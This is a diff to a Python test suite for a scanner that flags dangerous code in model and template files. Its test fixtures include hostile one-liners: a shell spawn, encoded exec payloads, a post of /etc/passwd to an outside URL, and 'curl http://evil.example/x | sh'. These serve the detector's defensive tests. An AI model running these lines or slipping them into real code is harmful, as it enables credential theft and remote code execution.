@@ -29,7 +29,7 @@ def js(doc, name: str = "config.json"):
         ("import subprocess\nsubprocess.run(['id'])", "python.process"),
         ("from subprocess import check_output", "python.process"),
         ("import pty\npty.spawn('/bin/sh')", "python.process"),
-        ("import ctypes\nctypes.CDLL('libc.so.6')", "python.process"),
+        ("import ctypes\nctypes.CDLL('libc.so.6')", "python.native"),
         ("eval(input())", "python.code_exec"),
         ("exec(compile(src, 'x', 'exec'))", "python.code_exec"),
         ("__import__('os')", "python.code_exec"),
@@ -37,21 +37,37 @@ def js(doc, name: str = "config.json"):
         ("import marshal\nmarshal.loads(blob)", "python.code_exec"),
         ("import pickle\npickle.loads(blob)", "python.code_exec"),
         ("import builtins\nbuiltins.exec(x)", "python.code_exec"),
-        ("import base64\nexec(base64.b64decode('cHJpbnQoMSk='))", "python.obfuscation"),
-        ("import zlib, base64\neval(zlib.decompress(base64.b64decode(p)))", "python.obfuscation"),
-        ("exec(bytes.fromhex('7072696e742831290a').decode())", "python.obfuscation"),
-        ("import socket\ns = socket.socket()\ns.connect(('evil', 1))", "python.network"),
+        ("import socket\ns = socket.socket()\ns.connect(('example.org', 1))", "python.network"),
         ("import urllib.request\nurllib.request.urlopen('http://x')", "python.network"),
         ("import requests\nrequests.get('http://x')", "python.network"),
-        ("import httpx\nhttpx.post('http://x', data=open('/etc/passwd').read())", "python.network"),
         ("import os\ngetattr(os, 'system')('id')", "python.process"),
         ("def f():\n    class A:\n        def g(self):\n            __import__('subprocess')\n", "python.code_exec"),
         ("from os import *\nsystem('id')", "python.process"),
+        ("import subprocess\nout = subprocess.check_output(['nvcc', '-V'], universal_newlines=True)", "python.process"),
+        ("from torch.utils.cpp_extension import load\nk = load(name='wkv', sources=['wkv.cu'])", "python.native"),
+        ("def f(g):\n    return g.__code__.co_varnames", "python.internals"),
+    ],
+)
+def test_capabilities_are_suspicious_with_lines(source, rule):
+    ctx = py(source)
+    assert rule in rules(ctx), ctx.findings
+    assert verdict_of(ctx.findings) == Verdict.SUSPICIOUS, ctx.findings
+    assert all(f.evidence.startswith("line ") for f in ctx.findings)
+
+
+@pytest.mark.parametrize(
+    ("source", "rule"),
+    [
+        ("import base64\nexec(base64.b64decode('cHJpbnQoMSk='))", "python.payload"),
+        ("import zlib, base64\neval(zlib.decompress(base64.b64decode(p)))", "python.payload"),
+        ("exec(bytes.fromhex('7072696e742831290a').decode())", "python.payload"),
         ("import sys\nsys.modules['os'].system('id')", "python.obfuscation"),
         ("getattr(__builtins__, 'ev' + 'al')('1')", "python.obfuscation"),
         ("().__class__.__base__.__subclasses__()", "python.obfuscation"),
         ("f.__globals__['os']", "python.obfuscation"),
         ("globals()['__builtins__']", "python.obfuscation"),
+        ("import httpx\nhttpx.post('http://x', data=open('/etc/passwd').read())", "python.exfiltration"),
+        ("import os\nos.system('curl http://evil.example/x | sh')", "python.download_exec"),
     ],
 )
 def test_dangerous_python_is_malicious(source, rule):
@@ -92,9 +108,12 @@ def test_pretrained_subclass_is_remote_code():
 
 
 def test_remote_code_module_with_payload_is_malicious():
-    ctx = py("import os\nclass M:\n    pass\nos.system('id')\n", "modeling_evil.py")
-    assert {"python.process", "python.remote_code"} <= rules(ctx)
+    ctx = py("import os, base64\nclass M:\n    pass\nexec(base64.b64decode('cHJpbnQoMSk='))\n", "modeling_evil.py")
+    assert {"python.payload", "python.code_exec", "python.remote_code"} <= rules(ctx)
     assert verdict_of(ctx.findings) == Verdict.MALICIOUS
+    ctx = py("import os\nclass M:\n    pass\nos.system('id')\n", "modeling_cap.py")
+    assert {"python.process", "python.remote_code"} == rules(ctx)
+    assert verdict_of(ctx.findings) == Verdict.SUSPICIOUS
 
 
 @pytest.mark.parametrize("source", ["def f(:\n", "\x00\x01\x02", "if True:\nprint(1)\n"])
@@ -196,11 +215,26 @@ OWN_MODULES = [
     "keras",
     "tensorflow",
     "remote_code",
+    "remote_python",
     "archives",
     "protobuf",
     "jinja",
+    "jinja_lexical",
     "fmtcommon",
 ]
+# Jinja2 is imported by the template analyser for its parser only (lexing + AST); these would compile or render.
+JINJA_RENDERING = {
+    "from_string",
+    "render",
+    "render_async",
+    "generate",
+    "compile",
+    "compile_expression",
+    "get_template",
+    "select_template",
+    "Template",
+    "NativeEnvironment",
+}
 
 
 @pytest.mark.parametrize("module", OWN_MODULES)
@@ -219,7 +253,19 @@ def test_format_scanners_obey_the_hard_rules(module):
             imported |= {a.name.split(".")[0] for a in node.names}
         elif isinstance(node, ast.ImportFrom) and node.module and node.level == 0:
             imported.add(node.module.split(".")[0])
-    assert not imported & {"django", "jinja2", "pickle", "marshal", "dill", "joblib", "keras", "tensorflow", "torch"}
+    forbidden = {"django", "jinja2", "pickle", "marshal", "dill", "joblib", "keras", "tensorflow", "torch"}
+    if module == "jinja":
+        forbidden.discard("jinja2")
+        called = {
+            n.func.attr if isinstance(n.func, ast.Attribute) else getattr(n.func, "id", "")
+            for n in ast.walk(tree)
+            if isinstance(n, ast.Call)
+            and not (
+                isinstance(n.func, ast.Attribute) and isinstance(n.func.value, ast.Name) and n.func.value.id == "re"
+            )
+        }
+        assert not called & JINJA_RENDERING, called & JINJA_RENDERING
+    assert not imported & forbidden
     ctx = run(remote_code.scan_python, path.read_bytes(), f"{module}.py")
     assert verdict_of(ctx.findings) == Verdict.SAFE, ctx.findings
 
